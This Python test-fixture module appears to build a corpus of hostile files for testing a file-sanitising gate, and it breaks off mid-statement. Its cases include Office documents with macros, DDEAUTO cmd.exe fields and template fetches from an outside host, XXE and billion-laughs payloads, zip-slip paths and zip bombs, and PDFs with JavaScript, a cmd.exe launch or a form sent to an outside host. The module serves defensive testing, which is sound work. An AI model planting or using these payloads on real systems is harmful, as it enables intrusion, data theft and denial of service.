"""Hostile files, made here. Each case can show, with tools that the gate does not use, that its danger is there.

`cases()` gives the set of every run; `cases(deep=True)` the larger one (cuts, variations of names and signatures).
"""

# ruff: noqa: E501  a case is easier to compare with its neighbours on one line

from __future__ import annotations

import io
import random
import re
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from functools import cached_property

from docx import Document
from openpyxl import Workbook
from PIL import Image, PngImagePlugin
from pypdf import PdfReader, PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, NumberObject, StreamObject, TextStringObject

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
AUTHOR = "Jo Planted-Author"


@dataclass
class Case:
    name: str
    file: str
    made: bytes | Callable[[], bytes]  # large ones are made when they are needed
    planted: Callable[[bytes], bool]  # the danger is in these bytes
    says: str = ""  # what the refusal must mention (a regular expression); empty: the file is taken and made safe

    def __str__(self) -> str:
        return self.name

    @cached_property
    def data(self) -> bytes:
        return self.made if isinstance(self.made, bytes) else self.made()


# --- good files to start from ------------------------------------------------------------------------


def docx(author: str = "", picture: bytes = b"") -> bytes:
    document, out = Document(), io.BytesIO()
    document.add_heading("Notes of a meeting")
    document.add_paragraph("The partnership met and agreed the plan.")
    if picture:
        document.add_picture(io.BytesIO(picture))
    document.core_properties.author = author or "A"
    document.save(out)
    return out.getvalue()


def xlsx(author: str = "") -> bytes:
    book, out = Workbook(), io.BytesIO()
    book.active.append(["Year", "Plans"])
    book.active.append([2025, 2431])
    book.properties.creator = author or "A"
    book.save(out)
    return out.getvalue()


def pdf(pages: int = 1, change: Callable[[PdfWriter], None] | None = None) -> bytes:
    writer, out = PdfWriter(), io.BytesIO()
    for _ in range(pages):
        writer.add_blank_page(200, 200)
    if change:
        change(writer)
    writer.write(out)
    return out.getvalue()


def png(size: tuple[int, int] = (40, 30), **more: object) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, (120, 20, 200)).save(out, "PNG", **more)
    return out.getvalue()


def jpeg(size: tuple[int, int] = (40, 30), **more: object) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, (120, 20, 200)).save(out, "JPEG", **more)
    return out.getvalue()


def with_gps() -> bytes:
    exif = Image.Exif()
    exif[0x010F], exif[0x013B] = "PlantedCamera", AUTHOR
    exif[0x8825] = {1: "N", 2: (51.0, 32.0, 16.0), 3: "E", 4: (0.0, 42.0, 50.0)}
    return jpeg(exif=exif)


def gps_of(data: bytes) -> dict:
    return dict(Image.open(io.BytesIO(data)).getexif().get_ifd(0x8825))


def exif_of(data: bytes) -> dict:
    return dict(Image.open(io.BytesIO(data)).getexif())


# --- taking packages apart ---------------------------------------------------------------------------


def parts(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        return {name: package.read(name) for name in package.namelist()}


def package(content: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as made:
        for name, data in content.items():
            made.writestr(name, data)
    return out.getvalue()


def having(base: bytes, **changes: bytes) -> bytes:
    """The package with parts added or replaced; "__" in a name stands for "/" and "_dot_" for "."."""
    return package(parts(base) | {k.replace("__", "/").replace("_dot_", "."): v for k, v in changes.items()})


def with_part(base: bytes, name: str, data: bytes) -> bytes:
    return package(parts(base) | {name: data})


def edited(base: bytes, name: str, old: bytes, new: bytes) -> bytes:
    content = parts(base)
    assert old in content[name], f"{old!r} is not in {name}"
    return package(content | {name: content[name].replace(old, new, 1)})


def related(
    base: bytes, kind: str, target: str, external: bool = True, part: str = "word/_rels/document.xml.rels"
) -> bytes:
    mode = b' TargetMode="External"' if external else b""
    line = b'<Relationship Id="rId99" Type="http://x/relationships/%s" Target="%s"%s/></Relationships>' % (
        kind.encode(),
        target.encode(),
        mode,
    )
    return edited(base, part, b"</Relationships>", line)


def has_part(pattern: str) -> Callable[[bytes], bool]:
    def look(data: bytes) -> bool:
        return any(re.search(pattern, name) for name in zipfile.ZipFile(io.BytesIO(data)).namelist())

    return look


def part_has(name: str, text: bytes) -> Callable[[bytes], bool]:
    return lambda data: text in zipfile.ZipFile(io.BytesIO(data)).read(name)


def holds(*texts: bytes) -> Callable[[bytes], bool]:
    return lambda data: all(text in data for text in texts)


def in_document(base: bytes, markup: bytes) -> bytes:
    return edited(base, "word/document.xml", b"</w:body>", markup + b"</w:body>")


# --- families ----------------------------------------------------------------------------------------


SIGNATURES: list[tuple[str, bytes]] = [
    ("program of Windows", b"MZ\x90\x00\x03\x00\x00\x00" + bytes(120)),
    ("program of Linux", b"\x7fELF\x02\x01\x01" + bytes(120)),
    ("program of Java", b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + bytes(60)),
    ("program of a Mac", b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + bytes(60)),
    ("WebAssembly", b"\x00asm\x01\x00\x00\x00" + bytes(60)),
    ("shell script", b"#!/bin/sh\nrm -rf /\n"),
    ("shortcut", b"L\x00\x00\x00\x01\x14\x02\x00" + bytes(100)),
    ("7z archive", b"7z\xbc\xaf\x27\x1c" + bytes(100)),
    ("RAR archive", b"Rar!\x1a\x07\x01\x00" + bytes(100)),
    ("gzip archive", b"\x1f\x8b\x08\x00" + bytes(100)),
    ("bzip2 archive", b"BZh91AY&SY" + bytes(100)),
    ("xz archive", b"\xfd7zXZ\x00" + bytes(100)),
    ("Zstandard archive", b"\x28\xb5\x2f\xfd" + bytes(100)),
    ("cabinet", b"MSCF\x00\x00\x00\x00" + bytes(100)),
    ("tar archive", bytes(257) + b"ustar\x0000" + bytes(250)),
    ("disk image", bytes(0x8001) + b"CD001" + bytes(100)),
    ("Rich Text", b"{\\rtf1{\\object\\objemb{\\*\\objdata 0105}}}"),
    ("PostScript", b"%!PS-Adobe-3.0\n(%pipe%id) (r) file\n"),
    ("old Word", OLE + bytes(600)),
    ("old Word with a password", OLE + bytes(100) + "EncryptedPackage".encode("utf-16-le") + bytes(300)),
    ("Outlook message", OLE + bytes(100) + "__substg1.0_0037001F".encode("utf-16-le") + bytes(300)),
    ("GIF", b"GIF89a\x01\x00\x01\x00" + bytes(20)),
    ("TIFF", b"II*\x00" + bytes(50)),
    ("BMP", b"BM\x46\x00\x00\x00" + bytes(60)),
    ("WebP", b"RIFF\x24\x00\x00\x00WEBPVP8 " + bytes(30)),
    ("HEIC", b"\x00\x00\x00\x18ftypheic" + bytes(60)),
    ("video", b"\x00\x00\x00\x18ftypmp42" + bytes(60)),
    ("SQLite database", b"SQLite format 3\x00" + bytes(100)),
    ("SVG drawing", b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
    ("SVG drawing without a header", b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
    ("web page", b"<!DOCTYPE html><html><script>alert(1)</script></html>"),
    ("web page behind spaces", b" \r\n\t <HTML><body onload=alert(1)>"),
    ("web page behind a mark", b"\xef\xbb\xbf<script>alert(1)</script>"),
    ("XML with an external entity", b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'),
]  # fmt: skip


def renamed(deep: bool) -> Iterator[Case]:
    endings = [".pdf", ".docx", ".xlsx", ".csv", ".txt", ".png", ".jpg"] if deep else None
    for number, (what, data) in enumerate(SIGNATURES):
        for ending in endings or [[".pdf", ".txt", ".docx", ".png"][number % 4]]:
            yield Case(f"{what} named {ending}", "letter" + ending, data, lambda d, s=data: d == s, says=".")


def macros_and_objects() -> Iterator[Case]:
    word, excel = docx(), xlsx()
    vba = OLE + b"\x00Attribut\x00e VB_Name" + bytes(200)
    yield Case(
        "docx with a macro project",
        "a.docx",
        with_part(word, "word/vbaProject.bin", vba),
        has_part("vbaProject"),
        "macros",
    )
    yield Case(
        "docx with a macro project in capitals",
        "a.docx",
        with_part(word, "WORD/VBAPROJECT.BIN", vba),
        has_part("VBAPROJECT"),
        "macros",
    )
    yield Case(
        "xlsx with a macro project",
        "a.xlsx",
        with_part(excel, "xl/vbaProject.bin", vba),
        has_part("vbaProject"),
        "macros",
    )
    yield Case(
        "xlsx with an Excel 4 macro sheet",
        "a.xlsx",
        with_part(excel, "xl/macrosheets/sheet1.xml", b"<a>=EXEC()</a>"),
        has_part("macrosheets"),
        "macros",
    )
    yield Case(
        "xlsx with a dialog sheet",
        "a.xlsx",
        with_part(excel, "xl/dialogsheets/sheet1.xml", b"<a/>"),
        has_part("dialogsheets"),
        "macros",
    )
    macro_type = b"application/vnd.ms-word.document.macroEnabled.main+xml"
    plain_type = b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    yield Case(
        "docm renamed docx",
        "a.docx",
        edited(word, "[Content_Types].xml", plain_type, macro_type),
        part_has("[Content_Types].xml", macro_type),
        "macros",
    )
    yield Case(
        "docx related to a macro project",
        "a.docx",
        related(word, "vbaProject", "x.bin", external=False),
        part_has("word/_rels/document.xml.rels", b"vbaProject"),
        "macros",
    )
    yield Case(
        "docx with an OLE object",
        "a.docx",
        with_part(word, "word/embeddings/oleObject1.bin", OLE + bytes(100)),
        has_part("embeddings"),
        "embedded",
    )
    yield Case(
        "docx with an OLE object under a picture's name",
        "a.docx",
        with_part(word, "word/media/image9.png", OLE + bytes(100)),
        part_has("word/media/image9.png", OLE),
        "embedded",
    )
    yield Case(
        "docx with a workbook inside",
        "a.docx",
        with_part(word, "word/embeddings/book.xlsx", excel),
        has_part("xlsx"),
        "embedded",
    )
    yield Case(
        "docx with a program inside",
        "a.docx",
        with_part(word, "word/media/x.exe", b"MZ" + bytes(50)),
        has_part("exe"),
        "embedded",
    )
    yield Case(
        "docx with a program named XML",
        "a.docx",
        with_part(word, "word/theme/theme9.bin", b"MZ" + bytes(50)),
        part_has("word/theme/theme9.bin", b"MZ"),
        "embedded",
    )
    yield Case(
        "docx with a script inside",
        "a.docx",
        with_part(word, "word/x.vbs", b"CreateObject"),
        has_part("vbs"),
        "embedded",
    )
    yield Case(
        "docx with a PDF inside",
        "a.docx",
        with_part(word, "customXml/a.bin", pdf()),
        part_has("customXml/a.bin", b"%PDF"),
        "embedded",
    )
    yield Case(
        "docx with a chunk of HTML",
        "a.docx",
        with_part(word, "word/afchunk.htm", b"<script>"),
        has_part("afchunk"),
        "embedded",
    )
    yield Case(
        "docx that takes in a chunk",
        "a.docx",
        in_document(word, b'<w:altChunk w:x="rId9"/>'),
        part_has("word/document.xml", b"altChunk"),
        "embedded",
    )
    yield Case(
        "docx with ActiveX",
        "a.docx",
        with_part(word, "word/activeX/activeX1.bin", bytes(40)),
        has_part("activeX"),
        "ActiveX",
    )
    yield Case(
        "docx with an add-in",
        "a.docx",
        with_part(word, "word/webextensions/taskpanes.xml", b"<a/>"),
        has_part("webext"),
        "add-in",
    )
    svg = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
    yield Case(
        "docx with a drawing that runs",
        "a.docx",
        with_part(word, "word/media/a.svg", svg),
        part_has("word/media/a.svg", b"<script"),
        "drawing",
    )


def fetching() -> Iterator[Case]:
    word, excel = docx(), xlsx()
    rels = "word/_rels/document.xml.rels"
    for kind, target in [
        ("attachedTemplate", "http://203.0.113.9/evil.dotm"),
        ("image", "http://203.0.113.9/track.png"),
        ("image", "\\\\203.0.113.9\\share\\x.png"),
        ("oleObject", "http://203.0.113.9/x.xls"),
        ("frame", "http://203.0.113.9/x.html"),
        ("subDocument", "file:///c:/x.docx"),
        ("aFChunk", "http://203.0.113.9/x.mht"),
    ]:
        yield Case(
            f"docx that fetches a {kind} from {target[:8]}",
            "a.docx",
            related(word, kind, target),
            part_has(rels, target.encode()),
            "elsewhere",
        )
    for target in (
        "javascript:alert(1)",
        "file:///c:/windows/system32/cmd.exe",
        "ms-msdt:/id x",
        "vbscript:x",
        "data:text/html,x",
    ):
        yield Case(
            f"docx with a link to {target[:11]}",
            "a.docx",
            related(word, "hyperlink", target),
            part_has(rels, target.encode()),
            "link",
        )
    yield Case(
        "xlsx with another workbook behind it",
        "a.xlsx",
        with_part(excel, "xl/externalLinks/externalLink1.xml", b"<a/>"),
        has_part("externalLinks"),
        "elsewhere",
    )
    yield Case(
        "xlsx with a database behind it",
        "a.xlsx",
        with_part(excel, "xl/connections.xml", b"<a/>"),
        has_part("connections"),
        "elsewhere",
    )
    yield Case(
        "xlsx with a web query",
        "a.xlsx",
        with_part(excel, "xl/queryTables/queryTable1.xml", b"<a/>"),
        has_part("queryTables"),
        "elsewhere",
    )
    yield Case(
        "xlsx with DDE",
        "a.xlsx",
        with_part(excel, "xl/other.xml", b'<x><ddeLink ddeService="cmd"/></x>'),
        part_has("xl/other.xml", b"ddeLink"),
        "elsewhere",
    )
    for field in (
        "DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe",
        "DDE excel x",
        "INCLUDETEXT http://203.0.113.9/x",
        "INCLUDEPICTURE \\\\\\\\203.0.113.9\\\\x",
        "MACROBUTTON AutoOpen x",
    ):
        markup = b"<w:p><w:r><w:instrText>" + field.encode() + b"</w:instrText></w:r></w:p>"
        yield Case(
            f"docx with the field {field.split()[0]}",
            "a.docx",
            in_document(word, markup),
            part_has("word/document.xml", field.split()[0].encode()),
            "elsewhere",
        )
    split = b"".join(b"<w:r><w:instrText>" + c + b"</w:instrText></w:r>" for c in (b"DD", b"EAU", b"TO cmd"))
    yield Case(
        "docx with a field in three pieces",
        "a.docx",
        in_document(word, b"<w:p>" + split + b"</w:p>"),
        part_has("word/document.xml", b"<w:instrText>EAU"),
        "elsewhere",
    )
    simple = b'<w:p><w:fldSimple w:instr="DDEAUTO cmd"/></w:p>'
    yield Case(
        "docx with a simple field",
        "a.docx",
        in_document(word, simple),
        part_has("word/document.xml", b"fldSimple"),
        "elsewhere",
    )


LAUGHS = (
    b"<!DOCTYPE l [<!ENTITY a0 'ha'>"
    + b"".join(b"<!ENTITY a%d '%s'>" % (n, b"&a%d;" % (n - 1) * 10) for n in range(1, 10))
    + b"]><l>&a9;</l>"
)
EXTERNAL = b'<!DOCTYPE r [<!ENTITY x SYSTEM "http://203.0.113.9/x">]><r>&x;</r>'
PARAMETER = b'<!DOCTYPE r [<!ENTITY % p SYSTEM "http://203.0.113.9/x.dtd"> %p;]><r/>'
QUADRATIC = b"<!DOCTYPE r [<!ENTITY a '" + b"a" * 50_000 + b"'>]><r>" + b"&a;" * 50_000 + b"</r>"


def xml_attacks() -> Iterator[Case]:
    word, excel = docx(), xlsx()
    for what, bomb in [
        ("a billion laughs", LAUGHS),
        ("an external entity", EXTERNAL),
        ("a parameter entity", PARAMETER),
        ("a quadratic entity", QUADRATIC),
    ]:
        for base, ending, name in [
            (word, "docx", "word/document.xml"), (word, "docx", "docProps/core.xml"), (word, "docx", "customXml/item1.xml"),
            (excel, "xlsx", "xl/worksheets/sheet1.xml"), (excel, "xlsx", "_rels/.rels"),
        ]:  # fmt: skip
            yield Case(
                f"{ending} with {what} in {name}",
                f"a.{ending}",
                with_part(base, name, bomb),
                part_has(name, b"<!ENTITY"),
                "DTD",
            )
    utf16 = ('<?xml version="1.0" encoding="UTF-16"?>' + EXTERNAL.decode()).encode("utf-16")
    yield Case(
        "docx with an entity in UTF-16",
        "a.docx",
        with_part(word, "word/document.xml", utf16),
        part_has("word/document.xml", "ENTITY".encode("utf-16-le")),
        "DTD",
    )
    deep = b"<a>" * 200_000 + b"</a>" * 200_000
    yield Case(
        "docx nested 200,000 deep",
        "a.docx",
        with_part(word, "word/document.xml", deep),
        part_has("word/document.xml", b"<a>" * 1000),
        "nested",
    )
    yield Case(
        "docx with broken XML",
        "a.docx",
        with_part(word, "word/document.xml", b"<a><b></a>"),
        part_has("word/document.xml", b"<b></a>"),
        "damaged",
    )

    def huge() -> bytes:
        return with_part(word, "word/document.xml", b"<a>" + b"<b x='1'/>" * 9_000_000 + b"</a>")

    yield Case(
        "docx with 9 million elements",
        "a.docx",
        huge,
        lambda d: max(i.file_size for i in zipfile.ZipFile(io.BytesIO(d)).infolist()) > 89_000_000,
        ".|^$",
    )


def names_in(data: bytes) -> list[str]:
    return re.findall(rb"PK\x01\x02.{42}(.{1,60})", data, re.DOTALL)  # type: ignore[return-value]


def packages(deep: bool) -> Iterator[Case]:
    word = docx()
    for evil in [
        "../../etc/cron.d/x",
        "/etc/passwd",
        "..\\..\\x.dll",
        "C:\\x.exe",
        "word/../../x",
        "a\nb.xml",
        "word/./../../../x",
    ]:
        yield Case(
            f"docx with a part named {evil!r}",
            "a.docx",
            with_part(word, evil, b"x"),
            lambda d, e=evil: e.encode() in d or e.replace("\\", "/").encode() in d,
            "outside|damaged",
        )
    yield Case(
        "docx with a part named with a null",
        "a.docx",
        with_part(word, "word/aXb.xml", b"<a/>").replace(b"word/aXb.xml", b"word/a\0b.xml"),
        holds(b"word/a\0b.xml"),
        "outside",
    )
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as made:
        for name, data in parts(word).items():
            made.writestr(name, data)
        link = zipfile.ZipInfo("word/link.xml")
        link.create_system, link.external_attr = 3, 0o120777 << 16
        made.writestr(link, "/etc/passwd")
    yield Case(
        "docx with a symbolic link",
        "a.docx",
        out.getvalue(),
        lambda d: any(i.external_attr >> 28 == 0xA for i in zipfile.ZipFile(io.BytesIO(d)).infolist()),
        "link to another place",
    )
    flagged = bytearray(word)
    for match in re.finditer(rb"PK\x01\x02", word):
        flagged[match.start() + 8] |= 1
    yield Case(
        "docx with a password on its parts",
        "a.docx",
        bytes(flagged),
        lambda d: zipfile.ZipFile(io.BytesIO(d)).infolist()[0].flag_bits & 1 == 1,
        "password",
    )
    for method, what in [(zipfile.ZIP_BZIP2, "bzip2"), (zipfile.ZIP_LZMA, "LZMA")]:
        yield Case(
            f"docx packed with {what}",
            "a.docx",
            package(parts(word), method),
            lambda d, m=method: zipfile.ZipFile(io.BytesIO(d)).infolist()[0].compress_type == m,
            "packed",
        )
    out = io.BytesIO()
    import warnings

    with zipfile.ZipFile(out, "w") as made, warnings.catch_warnings():
        warnings.simplefilter("ignore")
        for name, data in parts(word).items():
            made.writestr(name, data)
        made.writestr("word/document.xml", b"<other/>")
    yield Case(
        "docx with two documents of one name",
        "a.docx",
        out.getvalue(),
        lambda d: zipfile.ZipFile(io.BytesIO(d)).namelist().count("word/document.xml") == 2,
        "twice",
    )
    yield Case(
        "docx with two names that differ in capitals",
        "a.docx",
        with_part(word, "word/DOCUMENT.xml", b"<a/>"),
        has_part("DOCUMENT"),
        "twice",
    )
    yield Case(
        "docx behind a program",
        "a.docx",
        b"MZ" + bytes(500) + word,
        lambda d: zipfile.is_zipfile(io.BytesIO(d)) and d[:2] == b"MZ",
        "program",
    )
    yield Case("docx with a tail", "a.docx", word + b"<script>alert(1)</script>", holds(b"<script>"), "hidden")
    end = word.rfind(b"PK\x05\x06")
    comment = word[: end + 20] + struct.pack("<H", 30) + b"<script>alert(document.URL)//\n\n"[:30]
    yield Case(
        "docx with a comment that runs",
        "a.docx",
        comment,
        lambda d: b"script" in zipfile.ZipFile(io.BytesIO(d)).comment,
        "hidden|damaged|short",
    )
    (start,) = struct.unpack("<I", word[end + 16 : end + 20])
    hidden = bytes(5000)
    gap = (
        word[:start]
        + hidden
        + word[start:end]
        + word[end : end + 16]
        + struct.pack("<I", start + 5000)
        + word[end + 20 :]
    )
    yield Case(
        "docx with a gap before its contents",
        "a.docx",
        gap,
        lambda d: len(d) > 5000 and zipfile.ZipFile(io.BytesIO(d)).testzip() is None,
        "hidden",
    )
    yield Case(
        "docx of 4 gigabytes by its header",
        "a.docx",
        word[: end + 16] + b"\xff\xff\xff\xff" + word[end + 20 :],
        lambda d: d[-6:-2] == b"\xff\xff\xff\xff",
        "4 gigabytes",
    )
    yield Case(
        "docx on several disks",
        "a.docx",
        word[: end + 4] + b"\x01\x00" + word[end + 6 :],
        lambda d: d[-18:-16] == b"\x01\x00",
        "damaged",
    )
    wrong = bytearray(word)
    wrong[word.find(b"PK\x01\x02") + 16] ^= 0xFF
    yield Case("docx with a wrong check sum", "a.docx", bytes(wrong), lambda d: _fails(d), "damaged")
    other = bytearray(word)
    at = word.find(b"PK\x03\x04") + 30
    other[at] = ord("X")
    yield Case("docx whose two lists of names differ", "a.docx", bytes(other), lambda d: d[30:31] == b"X", "match")
    yield Case(
        "flat bomb of 101 MB in a docx",
        "a.docx",
        lambda: with_part(word, "word/media/a.bin", bytes(101_000_000)),
        lambda d: sum(i.file_size for i in zipfile.ZipFile(io.BytesIO(d)).infolist()) > 100_000_000 > 50 * len(d),
        "unpacks to more",
    )

    def many() -> bytes:
        return package(parts(word) | {f"word/media/a{n}.bin": bytes(9_900_000) for n in range(11)})

    yield Case(
        "bomb in eleven parts",
        "a.docx",
        many,
        lambda d: sum(i.file_size for i in zipfile.ZipFile(io.BytesIO(d)).infolist()) > 100_000_000,
        "unpacks to more",
    )

    def lying() -> bytes:
        data = bytearray(with_part(word, "word/media/a.bin", bytes(50_000_000)))
        at = bytes(data).rfind(b"PK\x01\x02")
        data[at + 24 : at + 28] = struct.pack("<I", 10)
        return bytes(data)

    yield Case(
        "bomb that says it is small",
        "a.docx",
        lying,
        lambda d: zipfile.ZipFile(io.BytesIO(d)).infolist()[-1].file_size == 10,
        "more than it says|damaged",
    )
    inner = package({f"{n}.xml": bytes(1_000_000) for n in range(20)})
    yield Case(
        "nested bomb",
        "a.docx",
        with_part(word, "word/media/inner.bin", inner),
        part_has("word/media/inner.bin", b"PK\x03\x04"),
        "embedded",
    )
    crowd = package(parts(word) | {f"word/x{n}.xml": b"<a/>" for n in range(2001)}, zipfile.ZIP_STORED)
    yield Case(
        "docx of over 2,000 parts",
        "a.docx",
        crowd,
        lambda d: len(zipfile.ZipFile(io.BytesIO(d)).namelist()) > 2000,
        "parts",
    )
    yield Case(
        "overlapping bomb",
        "a.docx",
        overlapping(word),
        lambda d: (
            len({i.header_offset for i in zipfile.ZipFile(io.BytesIO(d)).infolist()})
            < len(zipfile.ZipFile(io.BytesIO(d)).infolist())
        ),
        "overlap|match",
    )
    for what, content in [
        ("archive", {"a.txt": b"x"}), ("presentation", {"[Content_Types].xml": b"<a/>", "ppt/presentation.xml": b"<a/>"}),
        ("OpenDocument text", {"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": b"<a/>"}),
        ("Java program", {"META-INF/MANIFEST.MF": b"x", "A.class": b"\xca\xfe\xba\xbe"}),
        ("Android program", {"AndroidManifest.xml": b"x", "classes.dex": b"dex"}),
    ]:  # fmt: skip
        yield Case(
            f"{what} named docx",
            "a.docx",
            package(content),
            lambda d, c=content: set(c) == set(zipfile.ZipFile(io.BytesIO(d)).namelist()),
            "archive|PowerPoint|OpenDocument|program",
        )
    both = parts(word) | {"xl/workbook.xml": b"<a/>"}
    yield Case("docx that is a workbook too", "a.docx", package(both), has_part("xl/workbook"), "both")
    yield Case(
        "empty archive", "a.docx", b"PK\x05\x06" + bytes(18), lambda d: zipfile.is_zipfile(io.BytesIO(d)), "archive"
    )
    pixels = png_header(60_000, 60_000)
    yield Case(
        "docx with a picture of 3.6 gigapixels",
        "a.docx",
        with_part(word, "word/media/image9.png", pixels),
        part_has("word/media/image9.png", pixels),
        "pixels",
    )
    yield from cuts("docx", word, 60 if deep else 3)
    yield from cuts("xlsx", xlsx(), 60 if deep else 2)


def _fails(data: bytes) -> bool:
    try:
        return zipfile.ZipFile(io.BytesIO(data)).testzip() is not None
    except zipfile.BadZipFile:
        return True


def overlapping(base: bytes) -> bytes:
    """Two hundred names for the bytes of one part, as in the 42.zip successor of Fifield."""
    content = package(parts(base) | {"word/kernel.xml": bytes(400_000)})
    end = content.rfind(b"PK\x05\x06")
    count, length, start = struct.unpack("<HII", content[end + 10 : end + 20])
    last = content.rfind(b"PK\x01\x02", 0, end)
    entry = content[last:end]
    more = b"".join(entry.replace(b"kernel", b"k%05d" % n) for n in range(200))
    total = count + 200
    return (
        content[:end]
        + more
        + struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, total, total, length + len(more), start, 0)
    )


def cuts(kind: str, data: bytes, count: int) -> Iterator[Case]:
    """The file cut short at places spread over it."""
    for n in range(1, count + 1):
        size = len(data) * n // (count + 1)
        yield Case(
            f"{kind} cut after part {n} of {count + 1}",
            f"a.{kind}",
            data[:size],
            lambda d, w=data: len(d) < len(w),
            "short|damaged|hidden",
        )


# --- PDF ---------------------------------------------------------------------------------------------


def name(text: str) -> NameObject:
    return NameObject(text)


def action(kind: str, **more: object) -> DictionaryObject:
    made = DictionaryObject({name("/Type"): name("/Action"), name("/S"): name(kind)})
    for key, value in more.items():
        made[name("/" + key)] = TextStringObject(value) if isinstance(value, str) else value  # type: ignore[assignment]
    return made


def opening(kind: str, **more: object) -> bytes:
    return pdf(change=lambda w: w.root_object.update({name("/OpenAction"): w._add_object(action(kind, **more))}))


def annotated(kind: str, **more: object) -> bytes:
    def change(writer: PdfWriter) -> None:
        note = DictionaryObject({name("/Type"): name("/Annot"), name("/Subtype"): name(kind)})
        note[name("/Rect")] = ArrayObject([NumberObject(0)] * 4)
        for key, value in more.items():
            note[name("/" + key)] = value  # type: ignore[assignment]
        writer.pages[0][name("/Annots")] = ArrayObject([writer._add_object(note)])

    return pdf(change=change)


def streaming(data: bytes, **entries: object) -> bytes:
    def change(writer: PdfWriter) -> None:
        stream = StreamObject()
        stream._data = data
        for key, value in entries.items():
            stream[name("/" + key)] = value  # type: ignore[assignment]
        writer.pages[0][name("/Contents")] = writer._add_object(stream)

    return pdf(change=change)


def unpacked(data: bytes) -> bytes:
    return zlib.decompressobj().decompress(data[data.find(b"x\x9c") :])


def text_in(*words: str) -> Callable[[bytes], bool]:
    return lambda data: all(re.search(word.encode(), data) for word in words)


def in_object_stream() -> bytes:
    """A script in a compressed object stream: no search of the raw bytes can see it."""
    inner = b"<< /Type /Action /S /JavaScript /JS (app.alert(1)) >>"
    packed = zlib.compress(b"4 0 " + inner)
    objects = [
        b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>\nendobj\n",
        b"2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n",
        b"3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>\nendobj\n",
        b"5 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n" % len(packed)
        + packed
        + b"\nendstream\nendobj\n",
    ]
    out, places = b"%PDF-1.5\n", {}
    for number, made in zip((1, 2, 3, 5), objects, strict=True):
        places[number] = len(out)
        out += made
    places[6] = len(out)
    rows = [(0, 0, 65535), *((1, places[n], 0) for n in (1, 2, 3)), (2, 5, 0), (1, places[5], 0), (1, places[6], 0)]
    table = zlib.compress(b"".join(struct.pack(">BIH", *row) for row in rows))
    out += b"6 0 obj\n<< /Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R /Filter /FlateDecode /Length %d >>\nstream\n" % len(
        table
    )
    return out + table + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % places[6]


def circle(writer: PdfWriter) -> None:
    pages = writer.root_object.raw_get("/Pages")
    pages.get_object()["/Kids"].append(pages)


def script_by_name(writer: PdfWriter) -> None:
    script = writer._add_object(action("/JavaScript", JS="app.alert(1)"))
    table = DictionaryObject({name("/Names"): ArrayObject([TextStringObject("a"), script])})
    writer.root_object[name("/Names")] = DictionaryObject({name("/JavaScript"): table})


def nest(writer: PdfWriter) -> None:
    inner: object = NumberObject(1)
    for _ in range(400):
        inner = ArrayObject([inner])
    writer.root_object[name("/Deep")] = writer._add_object(inner)  # type: ignore[arg-type]


def pdfs(deep: bool) -> Iterator[Case]:
    yield Case(
        "PDF with a script on opening",
        "a.pdf",
        opening("/JavaScript", JS="app.alert(1)"),
        text_in("/JavaScript"),
        "script",
    )
    yield Case(
        "PDF with a script behind an escaped name",
        "a.pdf",
        opening("/JavaScript", JS="x").replace(b"/JavaScript", b"/#4aavaScript").replace(b"/JS", b"/#4aS"),
        text_in("/#4aavaScript"),
        "script",
    )
    yield Case(
        "PDF with a script in an object stream",
        "a.pdf",
        in_object_stream(),
        lambda d: "/JS" in PdfReader(io.BytesIO(d)).trailer["/Root"]["/OpenAction"] and b"JavaScript" not in d,
        "script",
    )
    yield Case(
        "PDF with a script among its names", "a.pdf", pdf(change=script_by_name), text_in("/JavaScript"), "script"
    )
    yield Case("PDF that starts a program", "a.pdf", opening("/Launch", F="cmd.exe"), text_in("/Launch"), "program")
    yield Case(
        "PDF that opens another file",
        "a.pdf",
        opening("/GoToR", F="\\\\203.0.113.9\\x"),
        text_in("/GoToR"),
        "program|elsewhere",
    )
    yield Case(
        "PDF that opens an inner file", "a.pdf", opening("/GoToE", F="x"), text_in("/GoToE"), "program|elsewhere"
    )
    yield Case(
        "PDF that sends its form away",
        "a.pdf",
        opening("/SubmitForm", F="http://203.0.113.9"),
        text_in("/SubmitForm"),
        "send",
    )
    yield Case(
        "PDF that takes data in",
        "a.pdf",
        opening("/ImportData", F="x.fdf"),
        text_in("/ImportData"),
        "program|elsewhere",
    )
    for kind in ("/Movie", "/Sound", "/Rendition"):
        yield Case(f"PDF with the action {kind}", "a.pdf", opening(kind), text_in(kind), "sound, video")
    for kind in ("/RichMedia", "/3D", "/Screen", "/Movie", "/Sound"):
        yield Case(f"PDF with the note {kind}", "a.pdf", annotated(kind), text_in(kind), "sound, video")
    yield Case(
        "PDF with a note that carries a file",
        "a.pdf",
        annotated("/FileAttachment"),
        text_in("/FileAttachment"),
        "attached",
    )
    yield Case(
        "PDF with a note that runs",
        "a.pdf",
        annotated("/Link", A=action("/JavaScript", JS="x")),
        text_in("/JavaScript"),
        "script",
    )
    yield Case(
